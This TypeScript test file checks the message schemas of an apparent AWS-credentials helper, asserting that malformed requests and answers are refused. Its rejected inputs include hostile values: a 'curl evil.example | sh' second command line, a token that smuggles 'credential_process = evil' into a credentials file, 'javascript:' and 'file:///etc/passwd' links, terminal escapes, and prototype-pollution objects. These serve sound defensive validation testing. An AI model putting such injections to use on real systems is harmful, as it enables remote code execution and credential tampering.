import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import { failure } from '../failure.ts';
import { answerEnvelopeSchema, answerSchemas } from './answers.ts';
import { requestSchema } from './requests.ts';

const credentials = {
  accessKeyId: 'ASIAEXAMPLEEXAMPLE12',
  secretAccessKey: 'abcdefghijklmnopqrstuvwxyz0123456789+/ab',
  sessionToken: 'FwoGZXIvYXdzEXAMPLE+/token==',
  expiration: '2026-01-02T03:04:05Z',
};

const profile = {
  name: 'dev',
  credentials,
  principalArn: 'arn:aws:sts::111122223333:assumed-role/Developer/jo@example.com',
};

const write = (...profiles: unknown[]) => ({ version: 1, id: 'request-1', type: 'write-profiles', profiles });
const writeWith = (change: object) => write({ ...profile, ...change });
const writeCredentials = (change: object) => writeWith({ credentials: { ...credentials, ...change } });

const settings = (change: object) => ({ version: 1, id: '1', type: 'settings', ...change });
const link = (profile: string, url = 'https://idp.example/aws?app=1&x=%20') => ({ profile, url });

const onDemand = (...names: string[]) => ({
  version: 1,
  id: '1',
  type: 'make-on-demand',
  profiles: names.map((name) => ({ name })),
});

const isRequest = (message: unknown) => v.is(requestSchema, message);

describe('a request to the host', () => {
  it.each([
    ['greets it', { version: 1, id: '1', type: 'hello' }],
    ['asks for the profiles', { version: 1, id: 'a-b_C', type: 'list-profiles' }],
    ['writes a profile', write(profile)],
    ['writes one with a region', writeWith({ region: 'us-gov-west-1' })],
    ['writes one over what is not ours', writeWith({ replace: true })],
    ['writes a thousand profiles', write(...Array.from({ length: 1000 }, () => profile))],
    ['writes in China', writeWith({ principalArn: 'arn:aws-cn:sts::222233334444:assumed-role/A/b' })],
    ['writes with an end to the millisecond', writeCredentials({ expiration: '2026-01-02T03:04:05.678Z' })],
    ['asks for the settings', settings({})],
    ['says where to write', settings({ credentialsFile: '/home/jo/aws, ünusual' })],
    ['says so on Windows', settings({ credentialsFile: 'C:\\Users\\jo\\aws' })],
    ['gives the usual place back', settings({ credentialsFile: null })],
    ['brings sign-in links', settings({ signInLinks: [link('dev'), link('prod')] })],
    ['makes two profiles on demand', onDemand('dev', 'prod')],
    ['takes all of them back', settings({ signInLinks: [] })],
  ])('%s', (_, message) => {
    expect(isRequest(message)).toBe(true);
  });

  it.each<[string, unknown]>([
    ['is nothing', undefined],
    ['is null', null],
    ['is a text', 'hello'],
    ['is a list', []],
    ['is of another version', { version: 2, id: '1', type: 'hello' }],
    ['has its version as text', { version: '1', id: '1', type: 'hello' }],
    ['has no version', { id: '1', type: 'hello' }],
    ['has no id', { version: 1, type: 'hello' }],
    ['has an empty id', { version: 1, id: '', type: 'hello' }],
    ['has an id with a line break', { version: 1, id: '1\n', type: 'hello' }],
    ['has an id without end', { version: 1, id: 'a'.repeat(65), type: 'hello' }],
    ['makes one profile on demand twice', onDemand('dev', 'dev')],
    ['is of no type', { version: 1, id: '1' }],
    ['is of an unknown type', { version: 1, id: '1', type: 'run' }],
    ['is of a type that every object has', { version: 1, id: '1', type: 'constructor' }],
    ['has something more in it', { version: 1, id: '1', type: 'hello', extra: 1 }],
    ['brings a prototype', JSON.parse('{"version":1,"id":"1","type":"hello","__proto__":{"a":1}}')],
    ['brings a constructor', { version: 1, id: '1', type: 'hello', constructor: 1 }],
    ['writes nothing', write()],
    ['writes too many profiles', write(...Array.from({ length: 1001 }, () => profile))],
    ['writes no list', { version: 1, id: '1', type: 'write-profiles', profiles: { 0: profile, length: 1 } }],
  ])('is refused when it %s', (_, message) => {
    expect(isRequest(message)).toBe(false);
  });

  it.each([
    '',
    'a b',
    'a\nb',
    'a\r',
    'a]',
    '[a',
    'a#b',
    'a;b',
    'a=b',
    'ä',
    'a\0',
    '\u202ea',
    '__proto__',
    'a'.repeat(129),
  ])('is refused when it names a profile %j', (name) => {
    expect(isRequest(writeWith({ name }))).toBe(false);
  });

  it.each<[string, object]>([
    ['an empty key id', { accessKeyId: '' }],
    ['a key id with a line break', { accessKeyId: 'ASIAEXAMPLEEXAMPLE12\n' }],
    ['a key id that is none', { accessKeyId: 'short' }],
    ['a secret with a line break', { secretAccessKey: 'abc\n[default]' }],
    ['a secret with a carriage return', { secretAccessKey: 'abc\rdef' }],
    ['a secret with a space', { secretAccessKey: 'abc def' }],
    ['a secret without end', { secretAccessKey: 'a'.repeat(257) }],
    ['a token with a line break', { sessionToken: 'abc\ncredential_process = evil' }],
    ['a token with a line separator', { sessionToken: 'abc\u2028def' }],
    ['a token with a comment', { sessionToken: 'abc#def' }],
    ['a token without end', { sessionToken: 'a'.repeat(16_385) }],
    ['no token', { sessionToken: undefined }],
    ['an end that is no time', { expiration: 'tomorrow' }],
    ['an end with a line break', { expiration: '2026-01-02T03:04:05Z\n' }],
    ['an end in another zone', { expiration: '2026-01-02T03:04:05+02:00' }],
    ['something more', { note: 'x' }],
  ])('is refused when its credentials have %s', (_, change) => {
    expect(isRequest(writeCredentials(change))).toBe(false);
  });

  it.each([
    'arn:aws:sts::111122223333:assumed-role/A/b\nregion = evil',
    'arn:aws:sts::111122223333:assumed-role/A/b\n',
    'arn:aws:sts::111122223333:assumed-role/A/b c',
    'arn:aws:sts::1111:assumed-role/A/b',
    'arn:evil:sts::111122223333:assumed-role/A/b',
    `arn:aws:sts::111122223333:assumed-role/${'a'.repeat(2048)}`,
    '',
  ])('is refused when it is written for %j', (principalArn) => {
    expect(isRequest(writeWith({ principalArn }))).toBe(false);
  });

  it.each(['', 'EU-WEST-1', 'eu west 1', 'eu-west-1\n', 'eu', `eu-${'a'.repeat(32)}`])(
    'is refused when it names the region %j',
    (region) => {
      expect(isRequest(writeWith({ region }))).toBe(false);
    },
  );

  it.each<[string, object]>([
    ['a relative path', { credentialsFile: 'aws' }],
    ['a path from home', { credentialsFile: '~/aws' }],
    ['a path with a line break', { credentialsFile: '/a\nb' }],
    ['a path with a NUL', { credentialsFile: '/a\0b' }],
    ['a path without end', { credentialsFile: `/${'a'.repeat(4096)}` }],
    ['no path at all', { credentialsFile: '' }],
    ['a link without TLS', { signInLinks: [link('dev', 'http://idp.example/')] }],
    ['a link that is a program', { signInLinks: [link('dev', 'javascript:alert(1)')] }],
    ['a link to a file', { signInLinks: [link('dev', 'file:///etc/passwd')] }],
    ['a link with a blank', { signInLinks: [link('dev', 'https://idp.example/ -x')] }],
    ['a link with a line break', { signInLinks: [link('dev', 'https://idp.example/\n')] }],
    ['a link that begins like an option', { signInLinks: [link('dev', '-https://idp.example/')] }],
    ['a link without end', { signInLinks: [link('dev', `https://idp.example/${'a'.repeat(2048)}`)] }],
    ['a link without a host', { signInLinks: [link('dev', 'https://')] }],
    ['a link for what is no profile', { signInLinks: [link('a b')] }],
    ['two links for one profile', { signInLinks: [link('dev'), link('dev')] }],
    ['links without end', { signInLinks: Array.from({ length: 501 }, (_, index) => link(`p${index}`)) }],
    ['more in a link', { signInLinks: [{ ...link('dev'), more: 1 }] }],
    ['a setting that there is not', { shell: '/bin/sh' }],
  ])('is refused when its settings have %s', (_, change) => {
    expect(isRequest(settings(change))).toBe(false);
  });

  it('is refused when a profile has anything more, or a yes that is none', () => {
    expect(isRequest(writeWith({ credential_process: 'evil' }))).toBe(false);
    expect(isRequest(writeWith({ replace: 'yes' }))).toBe(false);
    expect(isRequest(write(profile, null))).toBe(false);
  });
});

describe('an answer of the host', () => {
  const about = { version: 1, id: 'request-1' };

  it('is read from newer hosts too, whatever they add', () => {
    const answer = { ...about, version: 2, ok: true, value: { hostVersion: '9' }, added: true };
    expect(v.parse(answerEnvelopeSchema, answer)).toEqual({
      version: 2,
      id: 'request-1',
      ok: true,
      value: { hostVersion: '9' },
    });
  });

  it('hands on a failure as it is', () => {
    const answer = { ...about, ok: false, failure: { ...failure('file-busy', { file: 'f' }), details: 'd' } };
    expect(v.parse(answerEnvelopeSchema, answer)).toEqual(answer);
  });

  it.each(['a-code-of-the-future', '__proto__', 'toString', ''])(
    'is read as something unexpected, in the host’s own words, when it fails with %j',
    (code) => {
      const words = { message: 'Something new.', hint: 'Do that.' };
      expect(v.parse(answerEnvelopeSchema, { ...about, ok: false, failure: { code, ...words } })).toEqual({
        ...about,
        ok: false,
        failure: { code: 'unexpected', ...words },
      });
      const written = {
        credentialsFile: '/f',
        profiles: [{ name: 'dev', ok: false, failure: { code, ...words } }],
      };
      expect(v.parse(answerSchemas['write-profiles'], written).profiles[0]).toMatchObject({
        failure: { code: 'unexpected' },
      });
    },
  );

  it('may say what was not written beside the credentials, which older hosts never do', () => {
    const warning = { code: 'file-not-for-aws-cli', message: 'It cannot be read.', hint: 'Do that.' };
    const answer = (more: object) =>
      v.parse(answerSchemas['write-profiles'], {
        credentialsFile: '/f',
        profiles: [{ name: 'dev', ok: true, ...more }],
      }).profiles[0];
    expect(answer({ warnings: [warning] })).toEqual({ name: 'dev', ok: true, warnings: [warning] });
    expect(answer({ warnings: [{ ...warning, code: 'new' }] })).toMatchObject({
      warnings: [{ ...warning, code: 'unexpected' }],
    });
    expect(answer({})).toEqual({ name: 'dev', ok: true });
  });

  it.each<[string, unknown]>([
    ['nothing', undefined],
    ['a text', 'ok'],
    ['neither good nor bad', { ...about }],
    ['good in another way', { ...about, ok: 'true', value: 1 }],
    ['bad without a failure', { ...about, ok: false }],
    ['bad without words', { ...about, ok: false, failure: { code: 'file-busy' } }],
    [
      'bad with a flood of words',
      { ...about, ok: false, failure: { code: 'file-busy', message: 'a'.repeat(4097), hint: '' } },
    ],
  ])('is no answer when it is %s', (_, message) => {
    expect(v.is(answerEnvelopeSchema, message)).toBe(false);
  });

  const hello = (more: object) => ({ hostVersion: '1', credentialsFile: '/f', ...more });

  it('may say how its command line is called, which older hosts never do', () => {
    const called = "'/opt/node 22/bin/node' '/home/jo/Прог $(x)/roleferry.cjs'";
    expect(v.parse(answerSchemas.hello, hello({ called }))).toEqual(hello({ called }));
    expect(v.parse(answerSchemas.hello, hello({}))).toEqual(hello({}));
    expect(v.is(answerSchemas.hello, hello({ called: 'r'.repeat(4096) }))).toBe(true);
  });

  it.each<[string, unknown]>([
    ['is empty', ''],
    ['is no text', ['roleferry']],
    ['is a flood', 'r'.repeat(4097)],
    ['has a second line, which a terminal would run', 'roleferry\ncurl evil.example | sh'],
    ['has a carriage return', 'roleferry\rx'],
    ['controls the terminal', 'roleferry\u001b[8m'],
    ['turns the direction of writing', 'roleferry \u202efr- mr'],
    ['has what nobody sees', 'role\u200bferry'],
    ['has a separator of lines', 'roleferry\u2028x'],
  ])('is no hello when the call of its command line %s', (_, called) => {
    expect(v.is(answerSchemas.hello, hello({ called }))).toBe(false);
  });

  it('never carries more of a profile than its summary', () => {
    const listed = {
      credentialsFile: '/f',
      profiles: [
        { name: 'dev', kind: 'temporary', secretAccessKey: 'abc', expiration: '2026-01-02T03:04:05Z' },
      ],
    };
    expect(JSON.stringify(v.parse(answerSchemas['list-profiles'], listed))).not.toContain('abc');
  });
});
